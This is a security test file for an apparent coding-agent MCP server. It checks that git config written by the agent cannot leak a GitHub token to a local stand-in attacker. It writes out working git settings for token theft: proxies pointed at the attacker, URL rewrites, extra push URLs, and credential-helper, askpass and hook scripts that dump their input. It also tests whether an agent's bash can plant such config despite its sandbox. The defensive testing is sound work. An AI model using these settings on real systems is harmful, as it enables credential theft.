import { execFile, execFileSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startAttackerProxy, type AttackerProxy } from "./support/attacker-proxy.js";
import { startGitHttpServer, type GitHttpServer } from "./support/git-http-server.js";
import { git, makeBareRemote, startHarness, structured, textOf, type Harness } from "./support/harness.js";

// The agent can write its workspace's .git/config and, through its bash tool, the user's global git
// config. Everything it could write there to redirect, proxy or weaken coding-mcp's own token-carrying
// clone and push is tried here, against the token-guarded smart-HTTP server, with a second loopback
// server playing the attacker: a proxy that forwards for real (so an unprotected push would succeed
// through it) and logs every header it gets. The attacker must never see the token; the real push lands.

// Many attacks in one coding-mcp process: the loops get more time than one e2e test does.
const LOOP_TIMEOUT_MS = 600_000;

const TOKEN = `tok_${randomBytes(18).toString("base64")}+/=`;
const TOKEN_FORMS = [TOKEN, encodeURIComponent(TOKEN), Buffer.from(TOKEN).toString("base64")];

let h: Harness;
let server: GitHttpServer;
let attacker: AttackerProxy;
let served: string;
let home: string;
/** Where planted helpers and hooks write what they were given. */
let capture: string;
let evil: string;

const globalConfig = () => path.join(home, ".gitconfig");
const xdgConfig = () => path.join(h.env.XDG_CONFIG_HOME!, "git", "config");

function gitConfigFile(file: string, ...args: string[]): void {
  fs.mkdirSync(path.dirname(file), { recursive: true });
  git(os.tmpdir(), "config", "--file", file, ...args);
}

/** A file of git config that sets http.proxy to the attacker, for include directives. */
function proxyInclude(): string {
  const file = path.join(evil, "proxy.inc");
  gitConfigFile(file, "http.proxy", attacker.baseUrl);
  return file;
}

/** A shell script that appends its arguments, stdin and environment to the capture file. */
function captureScript(name: string): string {
  const file = path.join(evil, name);
  fs.writeFileSync(file, `#!/bin/sh\n{ echo "$0 $*"; env; cat; } >> '${capture}' 2>/dev/null\nexit 0\n`, { mode: 0o755 });
  return file;
}

/** An askpass that answers every prompt (the control of the proxy with a user name). */
function answerScript(): string {
  const file = path.join(evil, "answer.sh");
  fs.writeFileSync(file, "#!/bin/sh\necho proxy-password\n", { mode: 0o755 });
  return file;
}

/** A new directory under the attacker's home, for the controls' scratch repositories. */
function scratchDir(name: string): string {
  return fs.mkdtempSync(path.join(home, `${name}-`));
}

/** An empty bare repository on disk to push to. */
function scratchRemote(): string {
  const dir = scratchDir("control-remote");
  git(dir, "init", "-q", "--bare");
  return dir;
}

function makePrivateRepo(name: string): string {
  const bare = makeBareRemote(served, name);
  git(bare, "config", "http.receivepack", "true");
  return `${server.baseUrl}/${name}`;
}

/** The workspace's own config as `key=value` lines, without the upstream tracking a push may add. */
function configWithoutUpstream(ws: string): string[] {
  return git(ws, "config", "--file", ".git/config", "--list")
    .split("\n")
    .filter((line) => !line.startsWith("branch."));
}

function expectNoTokenAtAttacker(what: string, since: number): void {
  expect(attacker.find(TOKEN_FORMS, since), `${what}: the attacker received the token`).toBeUndefined();
  const captured = fs.existsSync(capture) ? fs.readFileSync(capture, "utf8") : "";
  expect(TOKEN_FORMS.some((form) => captured.includes(form)), `${what}: a planted helper or hook got the token`).toBe(false);
}

/**
 * Controls: each planted attack has its effect on the user's own git, run plainly with the planted
 * config and no coding-mcp in between, so that "the attack was held" means something.
 */
function plainGit(cwd: string, args: string[], env: Record<string, string> = {}): Promise<void> {
  // Asynchronously: the attacker and the git server answer from this very process. Whether git
  // succeeds does not matter (without credentials the server refuses); what it did on the way does.
  return new Promise<void>((resolve) => {
    const base = { PATH: process.env.PATH!, HOME: home, XDG_CONFIG_HOME: h.env.XDG_CONFIG_HOME!, GIT_TERMINAL_PROMPT: "0" };
    execFile("git", args, { cwd, env: { ...base, ...env }, timeout: 30_000 }, () => resolve());
  });
}

/** Plain git, talking to `url` (the workspace's origin when run in it), goes through the attacker. */
async function reachesAttacker(what: string, cwd: string, url = "origin", env: Record<string, string> = {}): Promise<void> {
  const before = attacker.log.length;
  await plainGit(cwd, ["ls-remote", url], env);
  expect(attacker.log.length, `${what}: the planted config does not reach the attacker`).toBeGreaterThan(before);
}

/** Plain git runs the planted script (the capture file gets its path: `script` under the attacker's directory, or absolute). */
async function runsPlanted(what: string, script: string, cwd: string, args: string[]): Promise<void> {
  await plainGit(cwd, args);
  const captured = fs.existsSync(capture) ? fs.readFileSync(capture, "utf8") : "";
  expect(captured, `${what}: the planted ${script} did not run`).toContain(path.isAbsolute(script) ? script : path.join(evil, script));
}

/** Where a plain push of the workspace would go. */
function pushUrls(ws: string): string[] {
  return git(ws, "remote", "get-url", "--push", "--all", "origin").split("\n");
}

/** Runs every attack even when one fails, so that one run names every attack that gets through. */
async function tryEach(attacks: Attack[], run: (attack: Attack, index: number) => Promise<void>, undo: () => void = () => {}): Promise<void> {
  const failures: string[] = [];
  for (const [i, attack] of attacks.entries()) {
    try {
      await run(attack, i);
    } catch (err) {
      failures.push(`${attack.name}: ${(err as Error).message.split("\n")[0]}`);
    } finally {
      undo();
      unplantGlobal();
    }
  }
  expect(failures).toEqual([]);
}

function unplantGlobal(): void {
  for (const file of [globalConfig(), xdgConfig(), capture]) fs.rmSync(file, { force: true });
}

beforeAll(async () => {
  served = fs.mkdtempSync(path.join(os.tmpdir(), "coding-mcp-served-"));
  home = fs.mkdtempSync(path.join(os.tmpdir(), "coding-mcp-home-"));
  evil = path.join(home, "evil");
  fs.mkdirSync(evil);
  capture = path.join(evil, "captured.txt");
  server = await startGitHttpServer({ projectRoot: served, token: TOKEN });
  attacker = await startAttackerProxy({ upstream: server.baseUrl });
  // token_hosts names the real server by host AND port, so a URL rewritten to the attacker (also on 127.0.0.1) gets no token.
  const serverHost = new URL(server.baseUrl).host;
  h = await startHarness({
    env: { GITHUB_TOKEN: TOKEN, HOME: home },
    config: { git: { token_hosts: [serverHost], allow_file_remotes: false } },
  });
});

afterAll(async () => {
  await h?.close();
  await attacker?.close();
  await server?.close();
  for (const dir of [served, home]) if (dir) fs.rmSync(dir, { recursive: true, force: true });
});

interface Attack {
  name: string;
  /** Writes the attack into the workspace's .git/config (or the user's global config). */
  plant(ws: string, repoUrl: string): void | Promise<void>;
  /** For attacks on where the connection goes: the push is refused with this error, and nothing is pushed. */
  refused?: RegExp;
  /** The control: the planted config has its effect on a plain git run (to show the attack is real). */
  control(ws: string, repoUrl: string): Promise<void> | void;
}

const serverPrefix = () => `${server.baseUrl}/`;

const pushAttacks: Attack[] = [
  // The agent's own bash cannot write .git/config (its sandbox has it read-only: see the test below), but a
  // config written before, or by an unconfined agent, is still there when coding-mcp pushes.
  { name: "http.proxy", plant: (ws) => git(ws, "config", "http.proxy", attacker.baseUrl), control: (ws) => reachesAttacker("http.proxy", ws) },
  {
    name: "http.proxy with a user name (git asks for the proxy's password)",
    plant: (ws) => git(ws, "config", "http.proxy", attacker.baseUrl.replace("//", "//proxyuser@")),
    // Without an askpass, git stops at the proxy's password prompt before connecting: the control gives it one.
    control: (ws) => reachesAttacker("http.proxy with a user", ws, "origin", { GIT_ASKPASS: answerScript() }),
  },
  { name: "http.<url>.proxy for the server's URL", plant: (ws) => git(ws, "config", `http.${serverPrefix()}.proxy`, attacker.baseUrl), control: (ws) => reachesAttacker("http.<url>.proxy", ws) },
  { name: "remote.origin.proxy", plant: (ws) => git(ws, "config", "remote.origin.proxy", attacker.baseUrl), control: (ws) => reachesAttacker("remote.origin.proxy", ws) },
  {
    name: "http.proxy with TLS checks switched off and basic proxy auth",
    plant(ws) {
      git(ws, "config", "http.proxy", attacker.baseUrl);
      git(ws, "config", "http.sslVerify", "false");
      git(ws, "config", "http.proxyAuthMethod", "basic");
      git(ws, "config", "http.emptyAuth", "true");
    },
    control: (ws) => reachesAttacker("http.proxy without TLS checks", ws),
  },
  { name: "include.path to a file that sets http.proxy", plant: (ws) => git(ws, "config", "include.path", proxyInclude()), control: (ws) => reachesAttacker("include.path", ws) },
  {
    name: "includeIf.gitdir to a file that sets http.proxy",
    plant: (ws) => git(ws, "config", `includeIf.gitdir:${ws}/.path`, proxyInclude()),
    control: (ws) => reachesAttacker("includeIf.gitdir", ws),
  },
  { name: "http.proxy in the user's ~/.gitconfig", plant: () => gitConfigFile(globalConfig(), "http.proxy", attacker.baseUrl), control: (ws) => reachesAttacker("global http.proxy", ws) },
  {
    name: "http.<url>.proxy in $XDG_CONFIG_HOME/git/config",
    plant: () => gitConfigFile(xdgConfig(), `http.${serverPrefix()}.proxy`, attacker.baseUrl),
    control: (ws) => reachesAttacker("XDG http.<url>.proxy", ws),
  },
  { name: "include.path in ~/.gitconfig", plant: () => gitConfigFile(globalConfig(), "include.path", proxyInclude()), control: (ws) => reachesAttacker("global include.path", ws) },
  {
    name: "credential.helper that stores what it is given",
    plant: (ws) => git(ws, "config", "credential.helper", captureScript("helper.sh")),
    control: (ws) => runsPlanted("credential.helper", "helper.sh", ws, ["ls-remote", "origin"]),
  },
  {
    name: "credential.<url>.helper for the server's URL",
    plant: (ws) => git(ws, "config", `credential.${serverPrefix()}.helper`, captureScript("url-helper.sh")),
    control: (ws) => runsPlanted("credential.<url>.helper", "url-helper.sh", ws, ["ls-remote", "origin"]),
  },
  {
    name: "credential.helper in ~/.gitconfig",
    plant: () => gitConfigFile(globalConfig(), "credential.helper", captureScript("global-helper.sh")),
    control: (ws) => runsPlanted("global credential.helper", "global-helper.sh", ws, ["ls-remote", "origin"]),
  },
  { name: "core.askPass", plant: (ws) => git(ws, "config", "core.askPass", captureScript("askpass.sh")), control: (ws) => runsPlanted("core.askPass", "askpass.sh", ws, ["ls-remote", "origin"]) },
  {
    name: "a pre-push hook, in .git/hooks and through core.hooksPath",
    plant(ws) {
      fs.copyFileSync(captureScript("pre-push"), path.join(ws, ".git", "hooks", "pre-push"));
      fs.chmodSync(path.join(ws, ".git", "hooks", "pre-push"), 0o755);
      fs.mkdirSync(path.join(evil, "hooks"), { recursive: true });
      for (const hook of ["pre-push", "reference-transaction", "post-update"]) fs.copyFileSync(captureScript(hook), path.join(evil, "hooks", hook));
      for (const hook of ["pre-push", "reference-transaction", "post-update"]) fs.chmodSync(path.join(evil, "hooks", hook), 0o755);
      gitConfigFile(globalConfig(), "core.hooksPath", path.join(evil, "hooks"));
    },
    // A plain push (to a scratch repository on disk: the hook runs before anything is sent) runs it.
    control: (ws) => runsPlanted("pre-push hook", "hooks/pre-push", ws, ["push", scratchRemote(), "HEAD:refs/heads/control"]),
  },
  {
    name: "url.<attacker>.pushInsteadOf the server's URL",
    plant: (ws) => git(ws, "config", `url.${attacker.baseUrl}/.pushInsteadOf`, serverPrefix()),
    refused: /not one of them|git\.token_hosts/,
    control: (ws) => expect(pushUrls(ws)).toEqual([expect.stringMatching(new RegExp(`^${attacker.baseUrl}/`))]),
  },
  {
    name: "url.<attacker>.insteadOf the server's URL, in ~/.gitconfig",
    plant: () => gitConfigFile(globalConfig(), `url.${attacker.baseUrl}/.insteadOf`, serverPrefix()),
    refused: /not one of them|git\.token_hosts/,
    control: (ws) => reachesAttacker("global url.insteadOf", ws),
  },
  {
    name: "a second push URL that points to the attacker",
    plant(ws, repoUrl) {
      git(ws, "config", "remote.origin.pushurl", repoUrl);
      git(ws, "config", "--add", "remote.origin.pushurl", `${attacker.baseUrl}/stolen.git`);
    },
    refused: /remote\.origin\.pushurl is set 2 times[\s\S]*nothing was pushed[\s\S]*config --unset-all remote\.origin\.pushurl/,
    control: (ws, repoUrl) => expect(pushUrls(ws)).toEqual([repoUrl, `${attacker.baseUrl}/stolen.git`]),
  },
];

let pushSession: string;

describe("coding_push with a workspace config written by the agent", () => {
  it("never sends the token anywhere but the real server, and the push lands", async () => {
    const repoUrl = makePrivateRepo("attacked.git");
    const bare = path.join(served, "attacked.git");
    const opened = structured(await h.call("coding_open", { repo_url: repoUrl }));
    pushSession = opened.session_id;
    const ws: string = opened.workspace_path;
    const pristineConfig = fs.readFileSync(path.join(ws, ".git", "config"), "utf8");

    await tryEach(pushAttacks, async (attack, i) => {
      const branch = `attack-${i}`;
      fs.writeFileSync(path.join(ws, `${branch}.txt`), `${attack.name}\n`);
      const commit = structured(await h.call("coding_commit", { session_id: pushSession, message: `Attack ${i}` }));
      await attack.plant(ws, repoUrl);
      const plantedConfig = configWithoutUpstream(ws);
      const seen = attacker.log.length;

      const result = await h.call("coding_push", { session_id: pushSession, branch });

      expectNoTokenAtAttacker(attack.name, seen);
      if (attack.refused) {
        expect(result.isError, attack.name).toBe(true);
        expect(textOf(result), attack.name).toMatch(attack.refused);
        expect(git(bare, "for-each-ref", `refs/heads/${branch}`), `${attack.name}: something was pushed`).toBe("");
      } else {
        expect(result.isError, `${attack.name}: ${textOf(result)}`).toBeFalsy();
        expect(structured(result)).toMatchObject({ pushed: true, branch });
        expect(git(bare, "rev-parse", `refs/heads/${branch}`), attack.name).toBe(commit.commit_hash);
        // The workspace knows what it pushed, as after a plain git push: remote-tracking ref and upstream.
        expect(git(ws, "rev-parse", `refs/remotes/origin/${branch}`), attack.name).toBe(commit.commit_hash);
        expect(git(ws, "rev-parse", "--abbrev-ref", "HEAD@{upstream}"), attack.name).toBe(`origin/${branch}`);
        // The real push did not go through the attacker at all.
        expect(attacker.log.length, `${attack.name}: the push went through the attacker`).toBe(seen);
      }
      expect(configWithoutUpstream(ws), `${attack.name}: .git/config changed`).toEqual(plantedConfig);
      await attack.control(ws, repoUrl);
    }, () => {
      fs.writeFileSync(path.join(ws, ".git", "config"), pristineConfig);
      fs.rmSync(path.join(ws, ".git", "hooks", "pre-push"), { force: true });
    });
    expect(textOf(await h.call("coding_close", { session_id: pushSession }))).not.toContain(TOKEN);
  }, LOOP_TIMEOUT_MS);
});

describe("the agent's own bash", () => {
  it("cannot write the workspace's .git/config (read-only in its sandbox), though the same command run plainly does", async () => {
    const opened = structured(await h.call("coding_open", { repo_url: makePrivateRepo("sandboxed.git") }));
    const ws: string = opened.workspace_path;
    const before = fs.readFileSync(path.join(ws, ".git", "config"), "utf8");
    const command = `git config http.proxy ${attacker.baseUrl}`;
    h.fake.setScenario("plant-proxy", [{ tools: [{ name: "bash", args: { command, description: "Configure git" } }] }, { text: "Configured git." }]);
    const result = structured(await h.call("code", { session_id: opened.session_id, task: "Set up git [[fake:plant-proxy]]" }));
    expect(result.trace.tool_calls.map((c: { tool: string; status: string }) => `${c.tool}:${c.status}`)).toEqual(["bash:completed"]);
    expect(result.trace.tool_calls[0].output_preview).toMatch(/could not (lock|write) config file/);
    expect(fs.readFileSync(path.join(ws, ".git", "config"), "utf8")).toBe(before);
    // Control: the very command, outside the agent's sandbox, plants the proxy.
    execFileSync("sh", ["-c", command], { cwd: ws, env: { PATH: process.env.PATH!, HOME: home } });
    expect(git(ws, "config", "http.proxy")).toBe(attacker.baseUrl);
    structured(await h.call("coding_close", { session_id: opened.session_id }));
  }, 120_000);
});

// The clone's controls run plain git outside any repository, against the repository's URL.
const cloneAttacks: Attack[] = [
  { name: "http.proxy in ~/.gitconfig", plant: () => gitConfigFile(globalConfig(), "http.proxy", attacker.baseUrl), control: (_, url) => reachesAttacker("global http.proxy", home, url) },
  {
    name: "http.<url>.proxy in $XDG_CONFIG_HOME/git/config",
    plant: () => gitConfigFile(xdgConfig(), `http.${serverPrefix()}.proxy`, attacker.baseUrl),
    control: (_, url) => reachesAttacker("XDG http.<url>.proxy", home, url),
  },
  { name: "include.path in ~/.gitconfig", plant: () => gitConfigFile(globalConfig(), "include.path", proxyInclude()), control: (_, url) => reachesAttacker("global include.path", home, url) },
  {
    name: "url.<attacker>.insteadOf the server's URL",
    plant: () => gitConfigFile(globalConfig(), `url.${attacker.baseUrl}/.insteadOf`, serverPrefix()),
    control: (_, url) => reachesAttacker("global url.insteadOf", home, url),
  },
  {
    name: "init.templateDir with a post-checkout hook",
    plant() {
      const hooks = path.join(evil, "template", "hooks");
      fs.mkdirSync(hooks, { recursive: true });
      fs.copyFileSync(captureScript("post-checkout"), path.join(hooks, "post-checkout"));
      fs.chmodSync(path.join(hooks, "post-checkout"), 0o755);
      gitConfigFile(globalConfig(), "init.templateDir", path.join(evil, "template"));
    },
    // A plain clone (of the repository on disk, needing no credentials) runs the template's hook.
    control() {
      const target = path.join(scratchDir("control-clone"), "clone");
      return runsPlanted("init.templateDir", path.join(target, ".git", "hooks", "post-checkout"), home, ["clone", "-q", path.join(served, "cloned.git"), target]);
    },
  },
  {
    name: "credential.helper in ~/.gitconfig",
    plant: () => gitConfigFile(globalConfig(), "credential.helper", captureScript("clone-helper.sh")),
    control: (_, url) => runsPlanted("global credential.helper", "clone-helper.sh", home, ["ls-remote", url]),
  },
  {
    name: "core.askPass in ~/.gitconfig",
    plant: () => gitConfigFile(globalConfig(), "core.askPass", captureScript("clone-askpass.sh")),
    control: (_, url) => runsPlanted("global core.askPass", "clone-askpass.sh", home, ["ls-remote", url]),
  },
];

describe("a clone into a session with a global config written by the agent", () => {
  it("never sends the token anywhere but the real server, and the clone works", async () => {
    const repoUrl = makePrivateRepo("cloned.git");
    await tryEach(cloneAttacks, async (attack) => {
      await attack.plant("", repoUrl);
      const seen = attacker.log.length;
      const result = await h.call("coding_open", { repo_url: repoUrl });
      expectNoTokenAtAttacker(attack.name, seen);
      expect(result.isError, `${attack.name}: ${textOf(result)}`).toBeFalsy();
      const opened = structured(result);
      expect(fs.readFileSync(path.join(opened.workspace_path, "README.md"), "utf8"), attack.name).toBe("# demo\n");
      expect(git(opened.workspace_path, "remote", "get-url", "origin"), attack.name).toBe(repoUrl);
      expect(attacker.log.length, `${attack.name}: the clone went through the attacker`).toBe(seen);
      structured(await h.call("coding_close", { session_id: opened.session_id }));
      await attack.control("", repoUrl);
    });
  }, LOOP_TIMEOUT_MS);

  it("left the token in no tool result or log line", () => {
    const log = h.stderr.join("\n");
    for (const form of TOKEN_FORMS) expect(log.includes(form)).toBe(false);
  });
});
